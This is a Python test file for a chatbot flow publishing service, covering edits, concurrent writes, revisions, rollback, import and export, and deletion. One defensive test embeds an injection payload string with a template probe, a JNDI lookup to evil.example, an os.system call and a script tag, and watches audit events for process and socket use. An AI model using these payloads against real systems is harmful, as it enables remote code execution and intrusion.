"""Drafts, edits, revisions, files."""

import json
import sqlite3
import sys
import threading
from contextlib import closing
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
import pytest
from sqlalchemy import Engine, insert, select
from sqlalchemy.exc import OperationalError

import flows
from engine.flow import Flow
from flows.edit import EditError
from server import audit, publishing, tables
from server.ids import new_id
from server.inbox import Filter
from server.parts import Parts
from server.revisions import brought_back
from tests.server import house
from tests.server.house import ADA, refused


def add(node: str, text: str = "Hello") -> dict[str, Any]:
    return {"op": "add", "node": node, "config": {"type": "message", "text": text}, "at": [0, 0]}


def connect(source: str, target: str) -> dict[str, Any]:
    return {"op": "connect", "source": source, "port": "next", "target": target}


@pytest.fixture
def flow(database: Engine) -> str:
    """A flow that can be published: it greets and closes."""
    made = publishing.create_flow(database, ADA, "After-sales")
    publishing.edit(database, made, add("greet"), ADA)
    publishing.edit(database, made, {"op": "add", "node": "end", "config": {"type": "close"}, "at": [300, 0]}, ADA)
    publishing.edit(database, made, connect("greet", "end"), ADA)
    return made


def test_ids_come_from_names_and_are_free(database: Engine) -> None:
    names = ["After-sales, EU", "After sales EU", "售后", "", "x" * 300]
    made = [publishing.create_flow(database, ADA, name) for name in names]
    assert made == ["after-sales-eu", "after-sales-eu-2", "flow", "new-flow", "x" * 48]
    assert publishing.draft(database, "flow").flow.name == "售后"


def test_an_edit_is_stored_and_its_inverse_takes_it_back(database: Engine, flow: str) -> None:
    before = publishing.draft(database, flow)
    edited = publishing.edit(database, flow, {"op": "set", "node": "greet", "field": "text", "value": "Good day"}, ADA)
    assert edited.changed == ("greet",)
    assert publishing.draft(database, flow) == publishing.Draft(edited.flow, before.version + 1, "draft")
    back = publishing.edit(database, flow, edited.inverse, ADA)
    assert back.flow == before.flow
    assert back.version == before.version + 2


def test_an_edit_that_cannot_be_made_changes_nothing(database: Engine, flow: str) -> None:
    before = publishing.draft(database, flow)
    with pytest.raises(EditError):
        publishing.edit(database, flow, connect("greet", "nowhere"), ADA)
    assert publishing.draft(database, flow) == before


def test_an_edit_for_a_version_that_is_past_is_refused(database: Engine, flow: str) -> None:
    version = publishing.draft(database, flow).version
    publishing.edit(database, flow, add("one"), ADA, version=version)
    with refused("conflict"):
        publishing.edit(database, flow, add("two"), ADA, version=version)


def test_an_edit_that_others_were_faster_than_is_made_with_the_row_held(
    database: Engine, flow: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    apply, before = flows.edit.apply, publishing.draft(database, flow)
    held: list[bool] = []

    def overtaken(now: Flow[Any], edit: Any) -> Any:
        if edit.node == "mine":
            held.append(is_held(database, flow))
            if len(held) == 1:
                publishing.edit(database, flow, add("theirs"), ADA)
        return apply(now, edit)

    monkeypatch.setattr(flows.edit, "apply", overtaken)
    publishing.edit(database, flow, add("mine"), ADA)
    assert held == [False, True]
    after = publishing.draft(database, flow)
    assert after.flow.nodes.keys() - before.flow.nodes.keys() == {"mine", "theirs"}
    assert after.version == before.version + 2


def is_held(database: Engine, flow: str) -> bool:
    """Whether somebody holds the flow's row, or on SQLite the file."""
    try:
        if database.dialect.name == "sqlite":
            with closing(sqlite3.connect(str(database.url.database), timeout=0)) as connection:
                connection.execute("BEGIN IMMEDIATE")
        else:
            with database.begin() as connection:
                mine = select(tables.flows.c.id).where(tables.flows.c.id == flow)
                connection.execute(mine.with_for_update(nowait=True))
    except (sqlite3.OperationalError, OperationalError):
        return True
    return False


def test_edits_of_several_people_at_once_all_count(database: Engine, flow: str) -> None:
    people, each = 12, 4
    failed: list[Exception] = []

    def work(who: int) -> None:
        try:
            for number in range(each):
                publishing.edit(database, flow, add(f"node_{who}_{number}"), ADA)
        except Exception as error:
            failed.append(error)

    before = publishing.draft(database, flow)
    threads = [threading.Thread(target=work, args=(who,)) for who in range(people)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failed == []
    after = publishing.draft(database, flow)
    assert len(after.flow.nodes) == len(before.flow.nodes) + people * each
    assert after.version == before.version + people * each


def test_publishing_makes_a_revision_that_later_edits_leave_alone(database: Engine, flow: str) -> None:
    first = publishing.publish(database, flow, " The first ", ADA)
    published = publishing.draft(database, flow).flow
    publishing.edit(database, flow, {"op": "set", "node": "greet", "field": "text", "value": "Changed"}, ADA)
    assert publishing.revision(database, flow, 1) == published
    second = publishing.publish(database, flow, "", ADA)
    assert (first.number, first.note, second.number) == (1, "The first", 2)
    assert [(one.number, one.live) for one in publishing.revisions(database, flow)] == [(2, True), (1, False)]
    assert publishing.revision(database, flow, 1) == published


def test_a_flow_with_errors_is_not_published_and_each_is_told(database: Engine, flow: str) -> None:
    publishing.edit(database, flow, {"op": "set", "node": "greet", "field": "text", "value": ""}, ADA)
    with refused("flow_has_errors") as error:
        publishing.publish(database, flow, "", ADA)
    assert "nodes/greet/text" in [fault.path for fault in error.value.faults]
    with refused("flow_has_errors") as in_chinese:
        publishing.publish(database, flow, "", ADA, language="zh")
    assert in_chinese.value.faults[0].message != error.value.faults[0].message
    assert publishing.revisions(database, flow) == []


def test_an_empty_flow_is_not_published(database: Engine) -> None:
    with refused("flow_has_errors"):
        publishing.publish(database, publishing.create_flow(database, ADA, "Empty"), "", ADA)


def test_nothing_changed_is_nothing_to_publish(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "", ADA)
    with refused("nothing_to_publish"):
        publishing.publish(database, flow, "", ADA)


def test_rolling_back_is_a_new_revision(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "", ADA)
    old = publishing.revision(database, flow, 1)
    publishing.edit(database, flow, {"op": "set", "node": "greet", "field": "text", "value": "Worse"}, ADA)
    publishing.publish(database, flow, "", ADA)
    made = publishing.roll_back(database, flow, 1, ADA)
    assert (made.number, made.live) == (3, True)
    assert brought_back(publishing.revisions(database, flow)[0].note) == 1
    assert publishing.revision(database, flow, 3) == old
    assert publishing.draft(database, flow).flow == old
    assert card(database, flow).unpublished == 0
    with refused("nothing_to_publish"):
        publishing.roll_back(database, flow, 3, ADA)


@pytest.mark.parametrize(
    "note", ["", "Warmer words", "Revision again", "Revision 01 again", "Revision 2 again, warmer"]
)
def test_a_note_that_somebody_wrote_brings_nothing_back(note: str) -> None:
    assert brought_back(note) == 0


def test_rolling_back_leaves_edits_that_are_not_published(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "", ADA)
    publishing.edit(database, flow, {"op": "set", "node": "greet", "field": "text", "value": "Worse"}, ADA)
    publishing.publish(database, flow, "", ADA)
    unfinished = publishing.edit(database, flow, add("unfinished"), ADA).flow
    publishing.roll_back(database, flow, 1, ADA)
    assert publishing.draft(database, flow).flow == unfinished
    assert card(database, flow).unpublished == 1


def test_what_is_exported_imports_and_exports_to_the_same_bytes(database: Engine, flow: str) -> None:
    data = publishing.export_flow(database, flow)
    again = publishing.import_flow(database, data, ADA)
    assert (again.id, again.replaced) == (flow, True)
    assert publishing.export_flow(database, again.id) == data
    luna = flows.write(flows.starter("luna"))
    imported = publishing.import_flow(database, luna, ADA)
    assert publishing.export_flow(database, imported.id) == luna
    publishing.publish(database, flow, "", ADA)
    assert publishing.export_flow(database, flow, 1) == data


def test_an_import_beside_what_is_there(database: Engine, flow: str) -> None:
    imported = publishing.import_flow(database, publishing.export_flow(database, flow), ADA, if_exists="copy")
    assert (imported.id, imported.replaced) == (f"{flow}-2", False)
    assert publishing.draft(database, imported.id).state == "draft"


def test_an_import_brings_a_deleted_flow_back(database: Engine, flow: str) -> None:
    data = publishing.export_flow(database, flow)
    publishing.delete_flow(database, flow, ADA)
    publishing.import_flow(database, data, ADA)
    assert publishing.draft(database, flow).state == "draft"


@pytest.mark.parametrize(
    "data",
    [b"", b"{", b"[]", b"{}", b"\xff\xfe", b"[" * 100_000, b'{"format": 1, "id": "x", "name": "x", "nodes": 5}'],
)
def test_a_file_that_is_no_flow_is_refused(database: Engine, data: bytes) -> None:
    with pytest.raises(flows.FlowError) as error:
        publishing.import_flow(database, data, ADA)
    assert error.value.faults
    assert publishing.flows_list(database) == []


def test_a_deleted_flow_is_out_of_the_list_and_comes_back_as_it_was(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "", ADA)
    publishing.delete_flow(database, flow, ADA)
    assert publishing.flows_list(database) == []
    assert [one.id for one in publishing.flows_list(database, deleted=True)] == [flow]
    for act in (
        lambda: publishing.edit(database, flow, add("late"), ADA),
        lambda: publishing.publish(database, flow, "", ADA),
        lambda: publishing.roll_back(database, flow, 1, ADA),
        lambda: publishing.pause(database, flow, ADA, paused=True),
    ):
        with refused("in_trash"):
            act()
    assert publishing.revision(database, flow, 1).name == "After-sales"
    publishing.undelete_flow(database, flow, ADA)
    assert card(database, flow).state == "live"


def test_a_paused_flow_is_not_live(database: Engine, flow: str) -> None:
    with refused("not_published"):
        publishing.pause(database, flow, ADA, paused=True)
    publishing.publish(database, flow, "", ADA)
    publishing.pause(database, flow, ADA, paused=True)
    assert card(database, flow).state == "paused"
    assert [one.live for one in publishing.revisions(database, flow)] == [False]
    publishing.pause(database, flow, ADA, paused=False)
    assert card(database, flow).state == "live"


def test_a_copy_has_its_own_name_and_id(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "", ADA)
    copied = publishing.duplicate_flow(database, ADA, flow, "After-sales, US")
    assert copied == "after-sales-us"
    mine, theirs = publishing.draft(database, copied).flow, publishing.draft(database, flow).flow
    assert msgspec.structs.replace(mine, id=theirs.id, name=theirs.name) == theirs
    assert publishing.revisions(database, copied) == []


def test_a_new_name_shows_in_the_list(database: Engine, flow: str) -> None:
    publishing.rename_flow(database, flow, "  Returns \n and more ", ADA)
    assert card(database, flow).name == "Returns and more"


def test_the_list_says_in_what_state_each_flow_is(database: Engine, flow: str) -> None:
    assert (card(database, flow).state, card(database, flow).revision, card(database, flow).nodes) == ("draft", 0, 2)
    publishing.publish(database, flow, "", ADA)
    for number in range(3):
        publishing.edit(database, flow, add(f"n{number}"), ADA)
    shown = card(database, flow)
    assert (shown.state, shown.revision, shown.unpublished) == ("live", 1, 3)
    publishing.restore(database, flow, 1, ADA)
    assert card(database, flow).unpublished == 0


def test_the_list_tells_the_last_week(database: Engine, flow: str) -> None:
    now = datetime.now(UTC).replace(hour=12)
    for days, reason in [(0, ""), (0, "A question of money"), (2, ""), (6, ""), (7, "too long ago")]:
        _conversation(database, flow, now - timedelta(days=days), reason)
    shown = publishing.flows_list(database, now=now)[0]
    assert shown.week == (1, 0, 0, 0, 1, 0, 2)
    assert shown.handed_over == 0.25


@pytest.mark.parametrize(
    "act",
    [publishing.draft, publishing.revisions, lambda database, which: publishing.revision(database, which, 1)],
)
def test_a_flow_that_is_not_there(database: Engine, act: Any) -> None:
    with refused("not_found"):
        act(database, "nowhere")


def test_who_published_imported_and_deleted_is_written_down(database: Engine, flow: str) -> None:
    publishing.publish(database, flow, "Spring", ADA)
    publishing.import_flow(database, publishing.export_flow(database, flow), ADA)
    publishing.delete_flow(database, flow, ADA)
    log = [(entry.person, entry.action, entry.subject) for entry in audit.entries(database)]
    assert log == [("ada", f"flow.{act}", flow) for act in ("delete", "import", "publish", "create")]


def test_a_running_conversation_stays_on_its_revision(parts: Parts) -> None:
    engine = parts.engine
    house.telegram_account(parts)
    made = publishing.create_flow(engine, ADA, "Orders")
    for change in (
        {"op": "add", "node": "ask", "config": {"type": "question", "text": "Which order?"}, "at": [0, 0]},
        {**add("old", "The old way"), "at": [300, 0]},
        {"op": "connect", "source": "ask", "port": "answered", "target": "old"},
    ):
        publishing.edit(engine, made, change, ADA)
    publishing.publish(engine, made, "", ADA)
    house.arrive(parts, house.said("Hello", 1, address="100"))
    house.turn(parts)
    publishing.edit(engine, made, {"op": "set", "node": "old", "field": "text", "value": "The new way"}, ADA)
    publishing.publish(engine, made, "", ADA)
    publishing.delete_flow(engine, made, ADA)
    house.arrive(parts, house.said("42", 2, address="100"))
    house.turn(parts)
    publishing.undelete_flow(engine, made, ADA)
    house.arrive(parts, house.said("Hello", 3, address="200"), house.said("42", 4, address="200"))
    house.turn(parts)
    said: dict[int, list[str]] = {}
    for shown in parts.inbox.conversations(Filter()).cards:
        opened = parts.inbox.conversation(shown.id)
        said[opened.revision] = [message.text for message in opened.messages if message.direction == "out"]
    assert said == {1: ["Which order?", "The old way"], 2: ["Which order?", "The new way"]}


def test_a_hostile_file_does_nothing_but_become_a_draft(database: Engine) -> None:
    """No process, no connection, no file but the database's own, whatever the texts and ids in it pretend to be."""
    hostile = json.loads(flows.write(flows.starter("luna")))
    payload = "{{7*7}} ${jndi:ldap://evil.example/x} __import__('os').system('touch /tmp/owned') <script>x</script>"
    hostile["name"] = payload[:120]
    hostile["notes"] = {"n": {"text": payload, "at": [0, 0]}}
    for node in hostile["nodes"].values():
        if "text" in node:
            node["text"] = payload
    publishing.import_flow(database, json.dumps(hostile).encode(), ADA)  # what is imported late is imported now
    acts: list[str] = []
    watched = ("subprocess.Popen", "os.system", "os.exec", "socket.connect", "socket.getaddrinfo", "exec", "compile")
    watching = True
    sys.addaudithook(lambda event, _: acts.append(event) if watching and event in watched else None)
    try:
        imported = publishing.import_flow(database, json.dumps({**hostile, "id": "evil"}).encode(), ADA)
        publishing.draft(database, imported.id)
    finally:
        watching = False
    assert acts == []
    assert publishing.draft(database, "evil").state == "draft"
    assert publishing.draft(database, "evil").flow.notes["n"].text == payload


def card(database: Engine, flow: str) -> publishing.FlowCard:
    return next(one for one in publishing.flows_list(database) if one.id == flow)


def _conversation(database: Engine, flow: str, created: datetime, reason: str) -> None:
    made = new_id()
    with database.begin() as connection:
        for table, row in [
            (tables.accounts, {"channel": "api", "name": "", "settings": "{}", "active": True}),
            (tables.contacts, {"name": "", "facts": "{}"}),
            (tables.identities, {"account": made, "address": made, "contact": made}),
            (
                tables.conversations,
                {
                    "account": made,
                    "channel": "api",
                    "contact": made,
                    "identity": made,
                    "status": "bot",
                    "flow": flow,
                    "reason": reason,
                    "last_at": created,
                },
            ),
        ]:
            connection.execute(insert(table).values(id=made, created=created, **row))
